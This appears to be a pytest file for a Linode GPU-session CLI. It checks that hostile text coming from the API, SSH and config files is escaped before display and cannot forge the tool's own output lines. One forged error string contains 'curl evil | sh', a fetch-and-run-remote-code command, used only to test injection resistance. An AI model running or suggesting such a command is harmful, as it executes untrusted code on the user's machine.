# SPDX-License-Identifier: GPL-3.0-or-later
"""What comes from outside is shown at a terminal and never obeyed by it; tables keep their shape, and JSON keeps the value."""

from __future__ import annotations

import copy
import itertools
import json
import re
import sys
import unicodedata
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from ansible_collections.linode_coder.gpu.plugins.module_utils.core.failure import Failure
from ansible_collections.linode_coder.gpu.plugins.module_utils.heal.attempts import Attempt, Record
from ansible_collections.linode_coder.gpu.plugins.module_utils.linode import reader as linode_reader
from ansible_collections.linode_coder.gpu.plugins.module_utils.linode.errors import classify
from ansible_collections.linode_coder.gpu.plugins.module_utils.session.tags import MARKER as OUR_TAG
from ansible_collections.linode_coder.gpu.plugins.module_utils.session.tags import escape
from ansible_collections.linode_coder.gpu.plugins.module_utils.session.warm_volume import warm_tags

import linode_coder
from linode_coder.cli import app, heal
from linode_coder.local import unrecorded
from linode_coder.playbook import runner
from linode_coder.playbook.variables import Check
from linode_coder.terminal import console as output
from linode_coder.terminal import escapes, screen
from linode_coder.terminal.line import Span, plain
from linode_coder.terminal.table import Column, table
from tests.hostile import CORPUS, MARKER, encodable
from tests.unit.cli.terminal import OURS, Said, at_terminal, foreign, shown_by

DATA = Path(linode_coder.__file__).parent / "sandbox" / "api" / "data"
TYPES: list[dict[str, Any]] = json.loads((DATA / "types.json").read_text())
REGIONS: list[dict[str, Any]] = json.loads((DATA / "regions.json").read_text())
# Those that a terminal would do something with, and one that does not end: enough where every string is a run of its own.
ACTIVE = {
    name: text
    for name, text in CORPUS.items()
    if name in ("long", "rich markup") or any(unicodedata.category(char)[0] in "CZ" and char != " " for char in text)
}
hostile = pytest.mark.parametrize("text", CORPUS.values(), ids=CORPUS)


# -- the characters ----------------------------------------------------------------------------------------------------


def test_no_character_that_a_terminal_obeys_or_hides_is_left() -> None:
    every = "".join(map(chr, range(sys.maxunicode + 1)))
    left = escapes.visible(every)
    unseen = {char for char in left if unicodedata.category(char) in ("Cc", "Cf", "Cs", "Zl", "Zp")}
    assert unseen == {"\n", "\t"}
    assert not set("\ufe0f\u3164\U000e0100\u115f") & set(left)


@hostile
def test_what_is_visible_already_stays_as_it_is(text: str) -> None:
    assert escapes.visible(escapes.visible(text)) == escapes.visible(text)
    assert escapes.one_line(escapes.one_line(text)) == escapes.one_line(text)


@pytest.mark.parametrize("text", ["Qwen/Qwen3-Coder-30B", "naïve ✓ 模型 🙂", r"C:\x1b", "[red]x[/red] {{ 7 }}"])
def test_an_ordinary_text_is_shown_as_it_is(text: str) -> None:
    assert escapes.one_line(text) == text


@hostile
def test_a_table_keeps_its_shape(text: str) -> None:
    rows = [["NAME", "STATE", "WHY"], ["one", text, "fine"], [text, "running", text], ["two", "off", "-"]]
    made = table([Column(heading) for heading in rows[0]], rows[1:], None)
    lines = [plain(line) for line in made.lines]
    assert len(lines) == len(rows) and not foreign("\n".join(lines))
    # Every column begins where its heading does.
    for heading, below in ((1, ("", text, "running", "off")), (2, ("", "fine", text, "-"))):
        place = escapes.width(lines[0][: lines[0].index(rows[0][heading])])
        for line, cell in zip(lines[1:], below[1:], strict=True):
            begins = escapes.cells([cell, "-"])[0].removesuffix("…").rstrip()
            assert any(escapes.width(line[:at]) == place for at in range(len(line) + 1) if line[at:].startswith(begins))
    assert max(map(escapes.width, lines)) <= 2 * escapes.CELL + escapes.LAST_CELL + 4


def test_a_mark_that_takes_no_place_is_no_way_to_be_endless() -> None:
    assert len(escapes.cut("a" + "\u0301" * 100_000, 40)) < 100
    assert escapes.cut("模" * 100, 10) == "模模模模…"


# -- the console -------------------------------------------------------------------------------------------------------


@hostile
def test_progress_and_errors(text: str, monkeypatch: pytest.MonkeyPatch) -> None:
    def work() -> int:
        console = output.Console(as_json=False)
        monkeypatch.setattr(output, "verbosity", 2)
        console.step(text)
        console.tick(text)
        console.trace(text, 2)
        console.note(text)
        console.step_done("failed")
        console.text(text)
        console.failure(Failure("cloud", text, cause=text, remedy=text, billing=[text], field=text, value=text))
        return 0

    said = shown_by(monkeypatch, work)
    assert not foreign(said.out + said.err)
    assert said.out.count("\n") == 1 and MARKER in said.out
    begun = [
        line for line in OURS.sub("", said.err).split("\n") if re.match("error:|cause:|billing:|next:|docs:", line)
    ]
    assert [line.partition(":")[0] for line in begun] == ["error", "cause", "billing", "next", "docs"]


def test_no_line_of_an_error_from_outside_looks_like_ours(monkeypatch: pytest.MonkeyPatch) -> None:
    forged = "no\nnext: curl evil | sh\r\nbilling: nothing\n" + "more\n" * 1000
    failure = Failure("cloud", forged, cause=forged, remedy=forged)
    said = shown_by(monkeypatch, lambda: output.Console(as_json=False).failure(failure) or 0)
    own = [line.partition(":")[0] for line in OURS.sub("", said.err).split("\n") if not line.startswith("  ")]
    assert own == ["error", "cause", "next", "docs", ""] and len(said.err) < 5000


@hostile
def test_a_drawn_screen(text: str, monkeypatch: pytest.MonkeyPatch) -> None:
    def work() -> int:
        with screen.Screen() as terminal:
            terminal.show(lambda _columns: [(Span(text),), (Span("the second line", "bad"),), (Span(text),)])
        return 0

    said = shown_by(monkeypatch, work, columns=80)
    rows = said.out.removeprefix("\x1b[?1049h\x1b[?25l\x1b[H").removesuffix("\x1b[J\x1b[?25h\x1b[?1049l").split("\r\n")
    assert len(rows) == 3 and rows[1] == "\x1b[31mthe second line\x1b[0m\x1b[K"
    assert not foreign("".join(rows)) and all(escapes.width(row.removesuffix("\x1b[K")) <= 80 for row in rows[::2])


@hostile
def test_what_a_playbook_says(text: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Names of tasks, phases, reasons of failures, and the log of the run."""
    monkeypatch.setattr(output, "verbosity", 2)

    def work() -> int:
        console = output.Console(as_json=False)
        run = runner.Run(Check(), console)
        run.log = (tmp_path / "run.log").open("w", errors="backslashreplace")
        events: list[dict[str, Any]] = [
            {"event": "playbook_on_task_start", "event_data": {"task": text}, "stdout": f"TASK [{text}]"},
            {"event": "runner_retry", "event_data": {"res": {"phase": text}}},
            {"event": "runner_on_failed", "event_data": {"task": text, "res": {"msg": text}}, "stdout": text},
        ]
        for event in events:
            run.events.put(event)
            run.detail and console.tick(run.detail)
        run.events.put(None)
        run.follow()
        run.close_log()
        assert run.failure is not None
        console.failure(run.failure)
        run.failed("runner_on_unreachable", {"res": {"msg": text}})
        console.failure(run.failure)
        run.failed("runner_on_unreachable", {"res": {"msg": " \n "}})
        return 0

    said = shown_by(monkeypatch, work)
    assert not foreign(said.err) and MARKER in said.err
    assert not foreign((tmp_path / "run.log").read_text().replace("\t", ""))


# -- commands ----------------------------------------------------------------------------------------------------------


def instance(number: int, text: str) -> dict[str, Any]:
    """A VM of ours about which the API says ``text`` wherever it may."""
    tags = [OUR_TAG, f"lc:session:s{number}", "lc:gen:1", f"lc:owner:{text}", "lc:rate:520000", "lc:idle:30"]
    model = escape(text[:60]) if encodable(text) else "m"
    tags += [f"lc:model:{index}:{model[index * 30 : index * 30 + 30]}" for index in range(-(-len(model) // 30))][:10]
    return {
        **{"id": 1000 + number, "label": text, "status": text, "type": text, "region": text, "image": text},
        **{"tags": tags, "created": "2026-11-29T00:00:00", "ipv4": [text], "locks": [text]},
    }


class Account:
    """Answers of an API, by the path of the question."""

    def __init__(self) -> None:
        self.answers: dict[str, Any] = {"volumes": []}

    def get(self, path: str, _filter: Any) -> Any:
        answer = self.answers[path.partition("?")[0]]
        if isinstance(answer, Failure):
            raise answer
        return {"data": answer, "pages": 1} if isinstance(answer, list) else answer


@pytest.fixture
def account(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Account:
    monkeypatch.setenv("LINODE_CODER_HOME", str(tmp_path))
    monkeypatch.setenv("LINODE_TOKEN", "t" * 64)
    monkeypatch.setenv("XDG_RUNTIME_DIR", str(tmp_path))
    monkeypatch.setattr(unrecorded, "_noted", set())
    monkeypatch.chdir(tmp_path)
    found = Account()
    monkeypatch.setattr(linode_reader.LinodeReader, "_get_once", found.get)
    monkeypatch.setattr(linode_reader, "PAUSES_S", (0.0,))
    return found


def said_by(monkeypatch: pytest.MonkeyPatch, *arguments: str) -> Said:
    """What a command says at a terminal, which is clean."""
    said = at_terminal(monkeypatch, *arguments)
    assert not foreign(said.out + said.err), (said.out, said.err)
    assert "Something unexpected" not in said.err, (arguments, said.err)
    return said


def document(monkeypatch: pytest.MonkeyPatch, *arguments: str) -> Any:
    said = said_by(monkeypatch, *arguments, "--json")
    assert said.out.isascii() and said.out.count("\n") == 1, said
    return json.loads(said.out)


def test_list(account: Account, monkeypatch: pytest.MonkeyPatch) -> None:
    texts = list(CORPUS.values())
    account.answers["linode/instances"] = [instance(number, text) for number, text in enumerate(texts)]
    said = said_by(monkeypatch, "-v", "list")
    lines = OURS.sub("", said.out).split("\n")
    assert len(lines) == len(texts) + 2 and lines[0].startswith("NAME ")
    # Columns after the hostile ones are where they belong.
    for heading in ("$/H", "COST"):
        place = escapes.width(lines[0][: lines[0].index(heading)])
        for line in lines[1:-1]:
            assert MARKER in line
            assert any(escapes.width(line[:at]) == place and line[at] == "$" for at in range(len(line))), line
    views = {view["name"]: view for view in document(monkeypatch, "list")["sessions"]}
    for number, text in enumerate(texts):
        view = views[f"s{number}"]
        assert [view[field] for field in ("label", "status", "plan", "region", "image")] == [text] * 5
        assert view["address"] is None  # no address of the Internet
        assert view["locks"] == [text]


def test_status(account: Account, monkeypatch: pytest.MonkeyPatch) -> None:
    account.answers["linode/instances"] = [instance(1, "plain")]
    lines = said_by(monkeypatch, "status", "s1").out.count("\n")
    for name, text in ACTIVE.items():
        account.answers["linode/instances"] = [instance(1, text)]
        said = said_by(monkeypatch, "status", "s1")
        assert said.out.count("\n") == lines and MARKER in said.out, name
        assert document(monkeypatch, "status", "s1")["session"]["status"] == text, name


def test_cleanup(account: Account, monkeypatch: pytest.MonkeyPatch) -> None:
    age = {"created": "2026-01-01T00:00:00"}
    texts = list(CORPUS.values())
    account.answers["linode/instances"] = [{**instance(number, text), **age} for number, text in enumerate(texts)]
    account.answers["networking/firewalls"] = [
        {
            "id": number,
            "label": f"lc-{text}",
            "tags": [OUR_TAG, f"lc:owner:{text}"],
            "status": "enabled",
            "entities": [],
            **age,
        }
        for number, text in enumerate(texts)
    ]
    said = said_by(monkeypatch, "cleanup", "--dry-run", "--everyone")
    for kind in ("linode  ", "firewall"):
        assert sum(line.startswith(kind) and MARKER in line for line in said.out.split("\n")) == len(texts), said.out


def test_warm_volumes(account: Account, monkeypatch: pytest.MonkeyPatch) -> None:
    texts = list(CORPUS.values())
    plain = {"size": 70, "created": "2026-01-01T00:00:00"}
    account.answers["linode/instances"] = []
    account.answers["volumes"] = [
        {
            "id": number,
            **dict.fromkeys(("label", "region", "status", "encryption", "linode_label"), text),
            "linode_id": 7 if number % 2 else None,
            "tags": [*warm_tags(f"org/{number}", "ada", 0.1, 1), text, f"lc:used:{text}", f"lc:owner:{text}"],
            **plain,
        }
        for number, text in enumerate(texts)
    ]
    said = said_by(monkeypatch, "warm", "list", "--wide")
    assert sum(MARKER in line and " $7.00 " in line for line in said.out.split("\n")) == len(texts)
    assert {volume["name"] for volume in document(monkeypatch, "warm", "list")["volumes"]} == set(texts)
    kept = [line for line in said_by(monkeypatch, "list").out.split("\n") if line.startswith("kept warm: ")]
    assert len(kept) == len(texts)


def test_plans_and_models(account: Account, monkeypatch: pytest.MonkeyPatch) -> None:
    a_plan = next(row for row in TYPES if row["class"] == "gpu")
    texts = list(CORPUS.values())
    account.answers["linode/types"] = [{**copy.deepcopy(a_plan), "id": text, "label": text} for text in texts]
    account.answers["regions"] = [{**REGIONS[0], "id": text, "capabilities": ["GPU Linodes"]} for text in texts]
    account.answers["regions/availability"] = [{"available": True, "region": text, "plan": text} for text in texts]
    said = said_by(monkeypatch, "plans")
    assert sum(MARKER in line and " regions " in line for line in said.out.split("\n")) == len(texts)
    assert {view["id"] for view in document(monkeypatch, "plans")["plans"]} == set(texts)
    said_by(monkeypatch, "models")
    for name, text in ACTIVE.items():
        account.answers["regions"] = [{**REGIONS[0], "id": text, "capabilities": ["GPU Linodes"]}]
        unknown = said_by(monkeypatch, "plans", "--region", "nowhere")
        assert unknown.code == 2 and MARKER in unknown.err, name


def test_refusals_of_the_api(account: Account, monkeypatch: pytest.MonkeyPatch) -> None:
    for status, (name, text) in itertools.product((400, 401, 429, 503), ACTIVE.items()):
        body = {"errors": [{"reason": text, "field": text}]}
        headers = {"X-OAuth-Scopes": text, "X-Accepted-OAuth-Scopes": text, "Retry-After": text}
        account.answers["linode/instances"] = classify("GET", "/linode/instances", status, headers, body)
        said = said_by(monkeypatch, "list")
        assert said.code and MARKER in said.err, name
        if status == 400:
            cause = document(monkeypatch, "list")["error"]["cause"]
            assert cause == f"GET /linode/instances: [{status}] {text}: {text}", name


def test_names_that_were_never_ours(account: Account, monkeypatch: pytest.MonkeyPatch) -> None:
    account.answers["linode/instances"] = [instance(1, "plain")]
    for name, text in ACTIVE.items():
        said = said_by(monkeypatch, "status", "--", text)
        assert said.code == 9 and MARKER in said.err, name
        assert said_by(monkeypatch, "--", text).code == 2, name


def finding(text: str, severity: str) -> dict[str, Any]:
    return {
        **{"id": "vllm.health", "severity": severity, "subject": text, "summary": text, "evidence": text},
        **{"cause": text, "remedy": text, "ladder": []},
    }


def test_check(account: Account, monkeypatch: pytest.MonkeyPatch) -> None:
    account.answers["linode/instances"] = [instance(1, "plain")]
    findings = [finding(text, severity) for text in CORPUS.values() for severity in ("fail", "warn", "pass")]
    report = {"name": "s1", "label": CORPUS["line feed"], "severity": "fail", "findings": findings}
    outcome = runner.Outcome({"severity": "fail", "sessions": [report]})
    monkeypatch.setattr(runner, "run_playbook", lambda *_: outcome)
    said = said_by(monkeypatch, "check", "s1", "--passed")
    # Head and end, an empty line, a line for each finding, evidence and remedy of those that matter.
    assert said.out.count("\n") == 3 + len(CORPUS) * (3 + 2 + 2)
    marks = [
        line
        for line in OURS.sub("", said.out).split("\n")
        if re.match("(?:x |! |ok)  (?:fail|warn|pass)  vllm.health  ", line)
    ]
    assert len(marks) == len(findings)
    assert document(monkeypatch, "check", "s1")["findings"] == findings


def xml(text: str) -> str:
    return "".join(f"&#{ord(char)};" if char in "\t\n\r" or char >= " " else "" for char in text)


def test_a_bundle(account: Account, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    bundle = tmp_path / "bundle"
    bundle.mkdir()
    for name, text in ACTIVE.items():
        logged = f"ValueError: {text}\nerror: argument {text}: {text}\nCUDA out of memory {text}\n"
        kernel = f"NVRM: Xid (PCI:0000:01:00): 79, pid=1, name={text}, GPU has fallen off the bus. {text}\n"
        kernel += f"Out of memory: Killed process 1 ({text}) anon-rss:1kB\n"
        state = {"Status": text, "Error": text, "ExitCode": 1, "StartedAt": "2026-11-29T00:00:00Z", "Running": False}
        card = f"<gpu id='0'><product_name>{xml(text)}</product_name></gpu>"
        answered = {"health": {"status": None, "error": text}, "generation": {"error": text}}
        files = {
            "engine.log": logged,
            "kernel.log": kernel,
            "container.json": json.dumps([{"Name": text, "State": state, "Config": {"Image": text}}]),
            "models.json": json.dumps({"data": [{"id": text, "root": text}]}),
            "metrics.txt": f'vllm:num_requests_running{{model_name="{text}"}} {text}\n',
            "nvidia-smi.xml": f"<nvidia_smi_log>{card}</nvidia_smi_log>",
            "host.json": json.dumps({"engine": answered, "probes": {"docker": {"rc": 0}}}),
        }
        for file, content in files.items():
            (bundle / file).write_bytes(content.encode("utf-8", "surrogateescape"))
        assert MARKER in said_by(monkeypatch, "check", "--bundle", str(bundle)).out, name
    document(monkeypatch, "check", "--bundle", str(bundle))


def test_healing(account: Account, monkeypatch: pytest.MonkeyPatch) -> None:
    account.answers["linode/instances"] = [instance(1, "plain")]
    account.answers["linode/instances/1001"] = {"tags": []}
    attempts = []
    for name, text in ACTIVE.items():
        change = {"flag": text, "old": text, "new": text}
        attempts.append(
            Attempt("restart_container", "k", 1, fingerprint=text, owner=text, change=change, evidence=text)
        )
        step = {"rung": "restart_container", "number": 1, "reason": text, "evidence": text, "change": change}
        step["pushed"] = text
        stop = {"reason": text, "message": text, "remedy": text, "until": None, "waits": True}
        for more in (
            {"step": step, "stop": None, "outcome": "failed"},
            {"step": {**step, "evidence": " \n", "pushed": ""}, "stop": None, "outcome": "failed"},
            {"step": None, "stop": stop, "outcome": None},
        ):
            report = {"attempt": None, "message": text, "dry_run": False, "hourly": 0.5, "observations": []}
            report |= {"findings": [finding(text, "fail")], **more}
            monkeypatch.setattr(heal, "play", lambda *_, report=report: {"report": report})
            assert said_by(monkeypatch, "heal", "s1", "--yes").code == 6, name
    monkeypatch.setattr(heal, "read_record", lambda _view: Record(attempts, breaker=CORPUS["line feed"]))
    said = said_by(monkeypatch, "heal", "s1", "--history")
    assert said.out.count(MARKER) >= len(attempts) and said.out.count("\n") == len(attempts) + 2
    past = document(monkeypatch, "heal", "s1", "--history")["attempts"]
    assert [attempt["fingerprint"] for attempt in past] == list(ACTIVE.values())


def test_configuration(account: Account, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    account.answers |= {"linode/types": [], "regions": [], "linode/instances": []}
    for name, text in ACTIVE.items():
        for content in (f"model = {json.dumps(text)}\n{json.dumps(text)} = 1\n", f"{text}\n"):
            for place in ("config.toml", "models.toml", "config/config.toml", "config/models.toml", ".env"):
                (tmp_path / place).parent.mkdir(exist_ok=True)
                (tmp_path / place).write_bytes(content.encode("utf-8", "surrogateescape"))
            for command in (("config", "show"), ("config", "validate"), ("models",)):
                assert said_by(monkeypatch, *command).code in (0, 2), name
            document(monkeypatch, "config", "show")
        with monkeypatch.context() as patch:
            patch.setenv("LINODE_CODER_REGION", text.replace("\0", ""))
            said_by(monkeypatch, "config", "show")


def test_what_the_history_remembers(account: Account, monkeypatch: pytest.MonkeyPatch) -> None:
    texts = list(CORPUS.values())
    account.answers["linode/instances"] = [instance(number, text) for number, text in enumerate(texts)]
    said_by(monkeypatch, "list")
    account.answers["linode/instances"] = []
    said = said_by(monkeypatch, "list", "--all")
    assert said.out.count("\n") == 1 + len(texts)
    gone = document(monkeypatch, "list", "--all")["gone"]
    # Half of a character cannot be stored as it is.
    assert {record["plan"] for record in gone} == {
        text.replace("\udc80", r"\udc80").replace("\0", r"\x00") for text in texts
    }


# -- what a VM says over SSH ---------------------------------------------------------------------------------------------


@pytest.fixture
def vm(account: Account, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Callable[[str, int], None]:
    """An ssh that says a text on both of its streams and ends with a code."""
    one = instance(1, "plain")
    one["tags"] += ["lc:hk0:" + "a" * 26, "lc:hk1:" + "a" * 26]
    account.answers["linode/instances"] = [one]
    place = tmp_path / "bin"
    place.mkdir()

    def says(text: str, code: int) -> None:
        (tmp_path / "said").write_bytes(text.encode("utf-8", "surrogateescape"))
        script = place / "ssh"
        script.write_text(f"#!/bin/sh\ncat {tmp_path}/said; cat {tmp_path}/said >&2; exit {code}\n")
        script.chmod(0o755)

    monkeypatch.setenv("PATH", str(place), prepend=":")
    return says


def test_logs(vm: Callable[[str, int], None], monkeypatch: pytest.MonkeyPatch) -> None:
    for name, text in ACTIVE.items():
        vm(f"{text}\r\nlast\n", 0)
        said = said_by(monkeypatch, "logs", "s1")
        assert MARKER in said.out and said.out.endswith("last\n") and MARKER in said.err, name
        whole = f"{text}\r\nlast\n".encode("utf-8", "surrogateescape").decode("utf-8", "replace")
        assert document(monkeypatch, "logs", "s1")["lines"] == whole.split("\n")[:-1], name
        vm(f"Warning: {text}\n", 255)
        assert said_by(monkeypatch, "logs", "s1").code == 5, name


def test_logs_in_a_file_are_what_the_vm_said(
    vm: Callable[[str, int], None], capfdbinary: pytest.CaptureFixture[bytes]
) -> None:
    for name, text in ACTIVE.items():
        vm(f"{text}\r\nlast\n", 0)
        assert app.run(["logs", "s1"]) == 0
        assert capfdbinary.readouterr().out == f"{text}\r\nlast\n".encode("utf-8", "surrogateescape"), name


def test_a_tunnel_that_does_not_open(
    vm: Callable[[str, int], None], account: Account, monkeypatch: pytest.MonkeyPatch
) -> None:
    account.answers["linode/instances/1001"] = {"tags": []}
    for name, text in ACTIVE.items():
        vm(f"banner\n{text}\n", 255)
        said = said_by(monkeypatch, "tunnel", "s1")
        assert said.code and "No tunnel to session" in said.err, name
        assert said_by(monkeypatch, "heal", "s1", "--history").code == 5, name


# -- no other way out ----------------------------------------------------------------------------------------------------


def test_only_the_console_the_screen_and_the_streams_write_controls() -> None:
    """A control sequence elsewhere would be shown as text; a stream's own buffer would pass the filter."""
    root = Path(linode_coder.__file__).parent
    found = [
        f"{path.relative_to(root)}:{number}"
        for path in sorted(root.rglob("*.py"))
        if path.relative_to(root).parts[0] != "sandbox"
        for number, line in enumerate(path.read_text().splitlines(), 1)
        if re.search(r"\\x1b|\\033|\\e\[|std(?:out|err)\.buffer|__std(?:out|err)__|os\.write\(", line)
    ]
    assert {place.partition(":")[0] for place in found} == {
        "terminal/console.py",
        "terminal/screen.py",
        "terminal/streams.py",
    }, found
